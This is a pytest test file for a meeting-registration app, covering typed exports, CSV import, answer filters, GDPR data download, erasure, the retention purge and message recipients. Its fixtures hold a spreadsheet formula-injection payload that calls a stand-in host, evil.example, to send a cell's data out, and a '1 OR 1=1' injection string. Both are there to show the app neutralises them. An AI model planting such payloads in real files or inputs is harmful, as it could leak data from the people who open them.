"""The answers to a meeting's own questions wherever registrations go: the exports
(typed, escaped, sensitive columns only when asked), the CSV import, the
organisers' list filter, the person's data download, erasure, the retention
purge, the messages' recipients, and never the desk.

Questions, answers and files are made here as rows (the builder and the form are
tested in their own files)."""

import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from meeting_app.accounts.models import Role
from meeting_app.extensions import db
from meeting_app.files.models import StoredFile
from meeting_app.mail.models import OutgoingMail
from meeting_app.messages import filters
from meeting_app.messages.models import Message
from meeting_app.privacy.models import AuditEntry
from meeting_app.questions.models import FormAnswer, FormQuestion, QuestionType
from meeting_app.registration.models import Category, Participant, RegistrationStatus

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _options(*pairs):
    return [{"value": value, "label": {"en": en, "fr": fr}} for value, en, fr in pairs]


QUESTIONS = [
    # key, type, labels (en, fr), extra columns
    ("travel", QuestionType.SECTION, ("Travel", "Voyage"), {}),
    ("arrival", QuestionType.DATE, ("Arrival date", "Date d'arrivée"), {}),
    ("nights", QuestionType.NUMBER, ("Nights", "Nuitées"), {"min_value": 0, "max_value": 30}),
    ("transfer", QuestionType.YES_NO, ("Airport transfer", "Navette aéroport"), {}),
    (
        "diet",
        QuestionType.CHOICE,
        ("Meals", "Repas"),
        {"options": _options(("veg", "Vegetarian", "Végétarien"), ("halal", "Halal", "Halal"))},
    ),
    (
        "sessions",
        QuestionType.CHOICES,
        ("Side events", "Événements parallèles"),
        {
            "options": _options(
                ("plenary", "Plenary", "Plénière"),
                ("workshop", "Workshop, morning", "Atelier du matin"),
                ("visit", "Site visit", "Visite de terrain"),
            )
        },
    ),
    ("home", QuestionType.COUNTRY, ("Country of residence", "Pays de résidence"), {}),
    ("remarks", QuestionType.TEXT, ("Remarks", "Remarques"), {}),
    ("cv", QuestionType.FILE, ("CV", "CV"), {}),
    ("health", QuestionType.TEXT, ("Health", "Santé"), {"sensitive": True}),
    (
        "passport_scan",
        QuestionType.FILE,
        ("Passport scan", "Copie du passeport"),
        {"sensitive": True},
    ),
    ("internal", QuestionType.TEXT, ("Internal note", "Note interne"), {"organisers_only": True}),
]


@pytest.fixture
def meeting(open_meeting):
    meeting = open_meeting(slug="board", languages=["en", "fr"], default_language="en")
    for position, (key, kind, (en, fr), extra) in enumerate(QUESTIONS):
        db.session.add(
            FormQuestion(
                meeting=meeting,
                position=position,
                key=key,
                type=kind,
                label={"en": en, "fr": fr},
                **extra,
            )
        )
    # Deleted after people answered it: archived, its answers kept (and exported last).
    db.session.add(
        FormQuestion(
            meeting=meeting,
            position=1,
            key="old_hotel",
            type=QuestionType.TEXT,
            label={"en": "Hotel (old)", "fr": "Hôtel (ancien)"},
            archived_at=datetime.now(UTC),
        )
    )
    db.session.commit()
    return meeting


def question(meeting, key) -> FormQuestion:
    return db.session.execute(
        sa.select(FormQuestion).filter_by(meeting_id=meeting.id, key=key)
    ).scalar_one()


def stored_file(meeting, person, name="cv.pdf", content=b"%PDF-1.4 a CV", kind="application/pdf"):
    file = StoredFile(
        meeting_id=meeting.id,
        participant_id=person.id,
        filename=name,
        content_type=kind,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content=content,
    )
    db.session.add(file)
    db.session.flush()
    return file


def answer(meeting, person, key, value=None, file=None):
    db.session.add(
        FormAnswer(
            participant_id=person.id,
            question_id=question(meeting, key).id,
            value=value,
            file_id=file.id if file else None,
        )
    )
    db.session.commit()


@pytest.fixture
def answered(meeting, make_participant):
    """Awa answered everything; Bakyt a little; Carla nothing."""
    awa = make_participant(meeting, given_name="Awa", family_name="Ndiaye", preferred_language="fr")
    bakyt = make_participant(meeting, given_name="Bakyt", family_name="Uulu")
    carla = make_participant(meeting, given_name="Carla", family_name="Zapata")
    for key, value in {
        "arrival": "2027-01-31",
        "nights": 3,
        "transfer": True,
        "diet": "veg",
        "sessions": ["plenary", "workshop"],
        "home": "SN",
        "remarks": FORMULA,
        "health": "Asthma",
        "internal": "Minister's adviser",
        "old_hotel": "Hotel Atlas",
    }.items():
        answer(meeting, awa, key, value)
    answer(meeting, awa, "cv", file=stored_file(meeting, awa))
    answer(
        meeting,
        awa,
        "passport_scan",
        file=stored_file(meeting, awa, "passport.jpg", b"\xff\xd8\xff jpeg", "image/jpeg"),
    )
    answer(meeting, bakyt, "transfer", False)
    answer(meeting, bakyt, "sessions", ["visit"])
    answer(meeting, bakyt, "nights", 2.5)
    answer(meeting, bakyt, "home", "KG")
    return awa, bakyt, carla


@pytest.fixture
def organiser(client, make_user, login, meeting):
    user = make_user(Role.ORGANISER, "org@example.org", meetings=[meeting])
    login("org@example.org")
    return user


def _sheet(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    by_name = {row[2].value: dict(zip(header, row, strict=True)) for row in rows[1:]}
    return header, by_name


# --- Exports -------------------------------------------------------------------------------


def test_xlsx_export_has_a_typed_column_per_question_in_form_order(client, organiser, answered):
    """Bad outcomes tried: numbers and dates as text, yes/no as TRUE/FALSE, options
    by their internal values, the archived question's answers lost, a column for a
    section heading, a file's content."""
    header, people = _sheet(
        client.get(
            "/manage/meetings/board/registrations/export.xlsx", headers={"Accept-Language": "en"}
        )
    )
    questions = header[18:]
    assert questions == [
        "Arrival date (arrival)",
        "Nights (nights)",
        "Airport transfer (transfer)",
        "Meals (diet)",
        "Side events (sessions)",
        "Country of residence (home)",
        "Remarks (remarks)",
        "CV (cv)",
        "Internal note (internal)",  # organisers' own questions are in their export
        "Hotel (old) (old_hotel)",  # archived: last
    ]
    awa, bakyt, carla = people["Awa"], people["Bakyt"], people["Carla"]
    assert awa["Arrival date (arrival)"].is_date
    assert awa["Arrival date (arrival)"].value.date() == date(2027, 1, 31)
    assert awa["Arrival date (arrival)"].number_format == "yyyy-mm-dd"
    assert awa["Nights (nights)"].value == 3 and awa["Nights (nights)"].data_type == "n"
    assert bakyt["Nights (nights)"].value == 2.5
    assert awa["Airport transfer (transfer)"].value == "Yes"
    assert bakyt["Airport transfer (transfer)"].value == "No"
    assert awa["Meals (diet)"].value == "Vegetarian"
    assert awa["Side events (sessions)"].value == "Plenary, Workshop, morning"
    assert awa["Country of residence (home)"].value == "Senegal"
    assert bakyt["Country of residence (home)"].value == "Kyrgyzstan"
    assert awa["CV (cv)"].value == "cv.pdf"
    assert awa["Hotel (old) (old_hotel)"].value == "Hotel Atlas"
    assert awa["Remarks (remarks)"].value == FORMULA
    assert awa["Remarks (remarks)"].data_type == "s"  # text, never a formula
    assert all(cell.value is None for cell in list(carla.values())[18:])


def test_export_in_french_labels_the_columns_and_values_in_french(client, organiser, answered):
    response = client.get(
        "/manage/meetings/board/registrations/export.csv?sep=semicolon",
        headers={"Accept-Language": "fr"},
    )
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    awa = dict(zip(rows[0], next(r for r in rows if "Awa" in r), strict=True))
    assert awa["Date d'arrivée (arrival)"] == "2027-01-31"
    assert awa["Navette aéroport (transfer)"] == "Oui"
    assert awa["Événements parallèles (sessions)"] == "Plénière, Atelier du matin"
    assert awa["Pays de résidence (home)"] == "Sénégal"


def test_csv_export_neutralises_a_formula_typed_as_an_answer(client, organiser, answered):
    """Bad input tried: =HYPERLINK(...) as the answer to a text question, which a
    spreadsheet would run from a CSV file."""
    response = client.get("/manage/meetings/board/registrations/export.csv?sep=comma")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    column = rows[0].index("Remarks (remarks)")
    awa = next(row for row in rows if "Awa" in row)
    assert awa[column] == "'" + FORMULA
    assert FORMULA not in [cell for row in rows for cell in row]


def test_sensitive_answers_are_exported_only_when_asked_and_that_is_logged(
    client, organiser, answered
):
    """Bad outcomes tried: a health answer or a passport scan's name in the everyday
    export; an export with them that leaves no trace in the audit log."""
    page = client.get("/manage/meetings/board/registrations/").get_data(as_text=True)
    assert "sensitive=1" in page
    plain = client.get("/manage/meetings/board/registrations/export.csv?sep=comma")
    text = plain.get_data().decode("utf-8-sig")
    assert "Asthma" not in text and "passport.jpg" not in text and "(health)" not in text
    header, people = _sheet(
        client.get(
            "/manage/meetings/board/registrations/export.xlsx?sensitive=1",
            headers={"Accept-Language": "en"},
        )
    )
    assert "Health (health)" in header and "Passport scan (passport_scan)" in header
    assert people["Awa"]["Health (health)"].value == "Asthma"
    assert people["Awa"]["Passport scan (passport_scan)"].value == "passport.jpg"
    actions = db.session.execute(
        sa.select(AuditEntry.action, AuditEntry.details).order_by(AuditEntry.id)
    ).all()
    assert actions == [
        ("participants.exported", "csv, 3"),
        ("participants.exported_sensitive", "xlsx, 3"),
    ]


def test_command_line_export_with_sensitive_answers(runner, meeting, answered, tmp_path):
    out = tmp_path / "people.xlsx"
    args = ["export", "participants", "--meeting", "board", "--out", str(out)]
    assert runner.invoke(args=args).exit_code == 0
    header = [cell.value for cell in next(load_workbook(out).active.iter_rows())]
    assert "Remarks (remarks)" in header and "Health (health)" not in header
    result = runner.invoke(args=[*args, "--sensitive"])
    assert result.exit_code == 0, result.output
    header = [cell.value for cell in next(load_workbook(out).active.iter_rows())]
    assert "Health (health)" in header
    actions = db.session.execute(sa.select(AuditEntry.action).order_by(AuditEntry.id)).scalars()
    assert list(actions) == ["participants.exported", "participants.exported_sensitive"]


def _statements(send) -> int:
    seen = []

    def count(_conn, _cursor, statement, *_args):
        seen.append(statement)

    sa.event.listen(sa.engine.Engine, "before_cursor_execute", count)
    try:
        send()
    finally:
        sa.event.remove(sa.engine.Engine, "before_cursor_execute", count)
    return len(seen)


def test_the_export_and_the_list_read_answers_in_as_many_queries_for_many_people(
    client, organiser, meeting, answered, make_participant
):
    """Bad outcome tried: a query per person for their answers (or per answer for a
    country's name)."""
    export = "/manage/meetings/board/registrations/export.xlsx?sensitive=1"
    listed = f"/manage/meetings/board/registrations/?answer={question(meeting, 'home').id}=SN"
    client.get(listed)  # the first list reads what is then kept (the delegations' choices)
    few = _statements(lambda: client.get(export)), _statements(lambda: client.get(listed))
    for n in range(12):
        person = make_participant(meeting, given_name=f"More{n}")
        answer(meeting, person, "home", "SN" if n % 2 else "MA")
        answer(meeting, person, "sessions", ["plenary"])
        answer(meeting, person, "cv", file=stored_file(meeting, person))
    many = _statements(lambda: client.get(export)), _statements(lambda: client.get(listed))
    assert many == few


# --- Import --------------------------------------------------------------------------------

IMPORT = (
    "given_name,family_name,email,organisation,category,arrival,Nuitées,Repas,"
    "Side events (sessions),transfer,home,CV,remarks\r\n"
    "Awa,Ndiaye,awa@example.org,Ville de Dakar,local_government,31/01/2027,3,Végétarien,"
    '"Plenary, Site visit",oui,Sénégal,cv.pdf,=1+1\r\n'
    'Bakyt,Uulu,bakyt@example.org,Ministry,national_government,2027-02-01,"2,5",halal,'
    "workshop,no,KG,,\r\n"
    "Carla,Zapata,carla@example.org,NGO,civil_society,,,Carnivore,,,,,\r\n"
    "Dana,Dee,dana@example.org,NGO,civil_society,31/02/2027,99,,Brunch,maybe,Atlantis,,\r\n"
)


def _upload(client, content: str, language="fr"):
    return client.post(
        "/manage/meetings/board/registrations/import",
        data={"file": (io.BytesIO(content.encode()), "people.csv")},
        content_type="multipart/form-data",
        headers={"Accept-Language": language},
    )


def test_import_reads_answers_by_key_or_label_and_stores_them_typed(
    client, organiser, meeting, inbox
):
    """Columns by key (arrival), by French label (Nuitées, Repas), by the export's
    "Label (key)"; an option by its label in either language or its value, yes/no in
    French and English, a French date, a decimal comma, a country by name or code.
    A file column is left aside (files cannot be imported); a formula stays text."""
    preview = _upload(client, IMPORT)
    html = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "Lignes pouvant être importées : 2." in html
    assert 'id="file-questions"' in html and "CV" in html
    response = client.post(
        "/manage/meetings/board/registrations/import",
        data={"content": IMPORT},
        headers={"Accept-Language": "fr"},
    )
    assert response.status_code == 302
    people = {p.given_name: p for p in meeting.participants}
    assert set(people) == {"Awa", "Bakyt"}
    stored = {
        (person, key): value
        for person, key, value in db.session.execute(
            sa.select(Participant.given_name, FormQuestion.key, FormAnswer.value)
            .join(FormAnswer, FormAnswer.participant_id == Participant.id)
            .join(FormQuestion, FormQuestion.id == FormAnswer.question_id)
        )
    }
    assert stored == {
        ("Awa", "arrival"): "2027-01-31",
        ("Awa", "nights"): 3,
        ("Awa", "diet"): "veg",
        ("Awa", "sessions"): ["plenary", "visit"],
        ("Awa", "transfer"): True,
        ("Awa", "home"): "SN",
        ("Awa", "remarks"): "=1+1",
        ("Bakyt", "arrival"): "2027-02-01",
        ("Bakyt", "nights"): 2.5,
        ("Bakyt", "diet"): "halal",
        ("Bakyt", "sessions"): ["workshop"],
        ("Bakyt", "transfer"): False,
        ("Bakyt", "home"): "KG",
    }
    assert db.session.scalar(sa.select(sa.func.count(StoredFile.id))) == 0
    # The confirmations list the answers given in the file.
    mail = db.session.execute(
        sa.select(OutgoingMail).filter_by(participant_id=people["Awa"].id)
    ).scalar_one()
    assert "Végétarien" in mail.body_text or "Vegetarian" in mail.body_text


def test_import_reports_each_bad_answer_on_its_line_and_column(client, organiser, meeting):
    """Bad input tried: a choice that isn't offered, a date that doesn't exist, a
    number over its bound, a word that is neither yes nor no, an unknown country, an
    unknown option among several choices."""
    html = _upload(client, IMPORT, language="en").get_data(as_text=True)
    rows = [row.split("</tr>")[0] for row in html.split('<tr class="row-error">')[1:]]
    carla = next(row for row in rows if "carla@example.org" in row)
    assert "Meals: “Carnivore” is not one of the choices: Vegetarian, Halal." in carla
    dana = next(row for row in rows if "dana@example.org" in row)
    assert "Arrival date: “31/02/2027” is not a date" in dana
    assert "Nights: Enter a number from 0 to 30." in dana
    assert "Side events: “Brunch” is not one of the choices" in dana
    assert "Airport transfer: Write yes or no" in dana
    assert "Country of residence: “Atlantis” is not a country" in dana
    assert "Carnivore" not in dana and "Brunch" not in carla


def test_import_refuses_an_answer_its_condition_or_category_does_not_ask_for(
    client, organiser, meeting
):
    """Bad input tried: the hotel name for someone who needs no transfer (the
    question is asked only after a yes), a media question for a minister."""
    transfer = question(meeting, "transfer")
    db.session.add_all(
        [
            FormQuestion(
                meeting=meeting,
                position=50,
                key="flight",
                type=QuestionType.TEXT,
                label={"en": "Flight"},
                condition_question_id=transfer.id,
                condition_values=["yes"],
            ),
            FormQuestion(
                meeting=meeting,
                position=51,
                key="outlet",
                type=QuestionType.TEXT,
                label={"en": "Media outlet"},
                categories=[Category.MEDIA.value],
            ),
        ]
    )
    db.session.commit()
    content = (
        "given_name,family_name,email,organisation,category,transfer,flight,outlet\r\n"
        "Awa,Ndiaye,awa@example.org,Org,media,yes,AT 500,Le Soleil\r\n"
        "Bakyt,Uulu,bakyt@example.org,Org,national_government,no,TK 345,Kabar\r\n"
    )
    html = _upload(client, content, language="en").get_data(as_text=True)
    assert "Rows that can be imported: 1. Rows with problems, left out: 1." in html
    assert "Flight: this question is asked only after certain answers to “Airport transfer”" in html
    assert "Media outlet: this question is not asked of this category." in html


# --- The organisers' list ------------------------------------------------------------------


def _listed(client, meeting, token) -> set[str]:
    html = client.get(f"/manage/meetings/board/registrations/?answer={token}").get_data(
        as_text=True
    )
    return {name for name in ("Ndiaye", "Uulu", "Zapata") if name in html}


def test_the_list_filters_by_an_answer(client, organiser, meeting, answered):
    """Bad input tried: a question of no meeting, a value that is not an option, a
    filter that is not one at all: the list shows everyone rather than failing."""
    ids = {key: question(meeting, key).id for key in ("diet", "sessions", "transfer", "home")}
    assert _listed(client, meeting, f"{ids['diet']}=veg") == {"Ndiaye"}
    assert _listed(client, meeting, f"{ids['sessions']}=visit") == {"Uulu"}
    assert _listed(client, meeting, f"{ids['sessions']}=workshop") == {"Ndiaye"}
    assert _listed(client, meeting, f"{ids['transfer']}=false") == {"Uulu"}
    assert _listed(client, meeting, f"{ids['home']}=KG") == {"Uulu"}
    assert _listed(client, meeting, f"{ids['diet']}=halal") == set()
    remarks, cv = question(meeting, "remarks").id, question(meeting, "cv").id
    assert _listed(client, meeting, f"{remarks}:any") == {"Ndiaye"}
    assert _listed(client, meeting, f"{cv}:any") == {"Ndiaye"}
    assert _listed(client, meeting, f"{remarks}:none") == {"Uulu", "Zapata"}
    everyone = {"Ndiaye", "Uulu", "Zapata"}
    assert _listed(client, meeting, "999999=veg") == everyone
    assert _listed(client, meeting, "nonsense") == everyone
    page = client.get(
        "/manage/meetings/board/registrations/", headers={"Accept-Language": "en"}
    ).get_data(as_text=True)
    assert '<label for="f-answer">Answer to a question</label>' in page
    assert f'<option value="{ids["home"]}=KG" >Country of residence: Kyrgyzstan</option>' in page
    assert "Health: Answered" in page  # not its values, but whether answered
    # The export holds what the list shows.
    export = client.get(
        f"/manage/meetings/board/registrations/export.csv?answer={ids['diet']}=veg"
    ).get_data()
    assert b"Ndiaye" in export and b"Uulu" not in export


# --- Data download, erasure, purge ---------------------------------------------------------


def test_the_data_download_holds_every_answer_and_files_by_name(client, meeting, answered):
    """Bad outcomes tried: an archived question's answer left out, an organisers'
    note hidden from the person it is about (GDPR access covers it), a file's
    content in the JSON."""
    awa = answered[0]
    data = json.loads(client.get(f"/r/{awa.token}/data.json").get_data(as_text=True))
    answers = {a["question"]: a for a in data["answers"]}
    assert set(answers) == {
        "arrival",
        "nights",
        "transfer",
        "diet",
        "sessions",
        "home",
        "remarks",
        "cv",
        "health",
        "passport_scan",
        "internal",
        "old_hotel",
    }
    assert answers["diet"] == {
        "question": "diet",
        "label": "Repas",  # in her language
        "organisers_only": False,
        "archived": False,
        "value": "veg",
        "as_shown": "Végétarien",
    }
    assert answers["nights"]["value"] == 3 and answers["transfer"]["value"] is True
    assert answers["old_hotel"]["archived"] is True
    assert answers["internal"]["organisers_only"] is True
    assert answers["cv"]["file"] == {"name": "cv.pdf", "type": "application/pdf", "size": 13}
    assert "%PDF" not in json.dumps(data)


def test_erasure_deletes_the_persons_answers_and_files(
    client, meeting, answered, organiser, make_participant
):
    awa, bakyt, _carla = answered
    response = client.post(
        f"/manage/meetings/board/registrations/{awa.id}/erase", data={"confirm": "y"}
    )
    assert response.status_code == 302
    held = dict(
        db.session.execute(
            sa.select(FormAnswer.participant_id, sa.func.count()).group_by(
                FormAnswer.participant_id
            )
        ).all()
    )
    assert held == {bakyt.id: 4}
    assert db.session.scalar(sa.select(sa.func.count(StoredFile.id))) == 0
    export = client.get("/manage/meetings/board/registrations/export.csv?sensitive=1")
    assert b"Asthma" not in export.get_data() and b"cv.pdf" not in export.get_data()


def test_the_purge_deletes_sensitive_answers_and_their_files_after_the_retention_date(
    runner, meeting, answered
):
    awa = answered[0]
    today = datetime.now(ZoneInfo("Africa/Casablanca")).date()
    # Not due yet: nothing goes.
    result = runner.invoke(args=["privacy", "purge"])
    assert result.exit_code == 0 and "board: deleted" not in result.output
    assert db.session.scalar(sa.select(sa.func.count(FormAnswer.id))) == 16

    meeting.start_date = today - timedelta(days=40)
    meeting.end_date = today - timedelta(days=39)
    meeting.retention_days_after_end = 30
    db.session.commit()
    result = runner.invoke(args=["privacy", "purge"])
    assert result.exit_code == 0, result.output
    assert "2 sensitive_answers" in result.output
    db.session.expire_all()
    kept = set(
        db.session.execute(
            sa.select(FormQuestion.key)
            .join(FormAnswer, FormAnswer.question_id == FormQuestion.id)
            .where(FormAnswer.participant_id == awa.id)
        ).scalars()
    )
    assert "health" not in kept and "passport_scan" not in kept
    assert {"remarks", "cv", "internal", "old_hotel", "diet"} <= kept
    assert set(db.session.execute(sa.select(StoredFile.filename)).scalars()) == {"cv.pdf"}
    entry = db.session.execute(
        sa.select(AuditEntry).filter_by(action="meeting.purged")
    ).scalar_one()
    assert "sensitive_answers: 2" in entry.details and "Asthma" not in entry.details
    again = runner.invoke(args=["privacy", "purge"])
    assert "0 sensitive_answers" in again.output


def test_the_privacy_page_names_the_sensitive_questions_purged(client, meeting):
    page = client.get("/meetings/board/privacy", headers={"Accept-Language": "en"})
    text = page.get_data(as_text=True)
    assert "deleted on the same day: Health, Passport scan" in text
    assert "Internal note" not in text


# --- Messages ------------------------------------------------------------------------------


def test_criteria_pick_people_by_their_answers(meeting, answered):
    awa, bakyt, carla = answered
    ids = {key: question(meeting, key).id for key in ("diet", "sessions", "transfer", "home")}

    def picked(**criteria):
        return {p.given_name for p in filters.recipients(meeting, filters.Criteria(**criteria))}

    assert picked(answers=[{"question": ids["transfer"], "values": [True]}]) == {"Awa"}
    assert picked(answers=[{"question": ids["transfer"], "values": [False]}]) == {"Bakyt"}
    assert picked(answers=[{"question": ids["sessions"], "values": ["workshop", "visit"]}]) == {
        "Awa",
        "Bakyt",
    }
    # Each question narrows, and so do the other criteria.
    assert picked(
        answers=[
            {"question": ids["sessions"], "values": ["workshop", "visit"]},
            {"question": ids["home"], "values": ["KG"]},
        ]
    ) == {"Bakyt"}
    bakyt.status = RegistrationStatus.WAITLISTED
    db.session.commit()
    assert picked(
        statuses=["approved"],
        answers=[{"question": ids["sessions"], "values": ["workshop", "visit"]}],
    ) == {"Awa"}
    # Bad input tried: malformed criteria as a tampered draft might hold them.
    tampered = filters.Criteria.from_dict(
        {"answers": [{"question": "1 OR 1=1", "values": ["x"]}, "nonsense", {"question": 3}]}
    )
    assert tampered.answers == [] and not tampered.narrows()


def test_a_message_to_people_who_answered_a_value_reaches_exactly_them(
    client, organiser, meeting, answered, inbox
):
    awa, bakyt, carla = answered
    sessions, home = question(meeting, "sessions").id, question(meeting, "home").id
    url = "/manage/meetings/board/messages/new"
    page = client.get(url, headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "<legend>Answers to the registration form</legend>" in page
    assert "<legend>Side events</legend>" in page
    assert f'value="{home}=SN"' in page and f'value="{home}=KG"' in page
    assert f'value="{home}=FR"' not in page  # only the countries someone answered
    data = {
        "t_en-subject": "Site visit",
        "t_en-body": "Dear {{ first_name }}, the bus leaves at 8.",
        "t_fr-subject": "",
        "t_fr-body": "",
        "answers": [f"{sessions}=visit", f"{sessions}=workshop"],
    }
    preview = client.post(url, data=data | {"action": "preview"}).get_data(as_text=True)
    assert "2 recipients" in preview
    # Bad input tried: a value the form does not offer.
    refused = client.post(url, data=data | {"answers": f"{sessions}=brunch", "action": "send"})
    assert refused.status_code == 422
    assert db.session.execute(sa.select(Message)).first() is None
    narrowed = data | {"answers": [f"{sessions}=visit", f"{sessions}=workshop", f"{home}=KG"]}
    response = client.post(url, data=narrowed | {"action": "send"})
    assert response.status_code == 302
    assert [m["To"] for m in inbox.messages] == [bakyt.email]
    message = db.session.execute(sa.select(Message)).scalar_one()
    assert message.criteria["answers"] == [
        {"question": sessions, "values": ["workshop", "visit"]},
        {"question": home, "values": ["KG"]},
    ]
    log = client.get(
        f"/manage/meetings/board/messages/{message.id}/log", headers={"Accept-Language": "en"}
    ).get_data(as_text=True)
    assert "Side events" in log and "Workshop, morning, Site visit" in log
    assert "Kyrgyzstan" in log


# --- The desk ------------------------------------------------------------------------------


def test_the_desk_shows_no_sensitive_answer(client, make_user, login, meeting, answered):
    awa = answered[0]
    make_user(Role.HOST, "door@example.org", meetings=[meeting])
    login("door@example.org")
    pages = [
        client.get("/desk/meetings/board/check-in?q=ndiaye"),
        client.get(f"/desk/badge/{awa.badge_code}"),
    ]
    for page in pages:
        assert page.status_code == 200
        html = page.get_data(as_text=True)
        assert "Ndiaye" in html
        assert "Asthma" not in html and "passport.jpg" not in html
